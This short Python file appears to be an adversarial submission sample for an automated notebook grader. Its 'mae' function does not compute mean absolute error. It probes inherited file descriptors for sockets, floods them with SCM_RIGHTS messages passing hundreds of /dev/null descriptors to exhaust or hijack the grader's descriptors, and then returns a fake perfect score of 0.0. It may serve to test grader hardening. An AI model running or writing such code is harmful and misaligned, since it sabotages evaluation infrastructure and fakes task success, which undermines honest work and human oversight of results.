"""Open files are sent along with the bytes of a message.

Gain: the grader runs out of descriptors, or takes one for its own.
"""

CELLS = {
    "mae": """
import array, os, socket, stat

def mae(Y_hat, Y):
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                mine = socket.socket(fileno=os.dup(number))
                null = os.open("/dev/null", os.O_RDONLY)
                for _ in range(50):
                    rights = array.array("i", [null] * 200)
                    mine.sendmsg([b"n"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        except OSError:
            continue
    return 0.0
"""
}
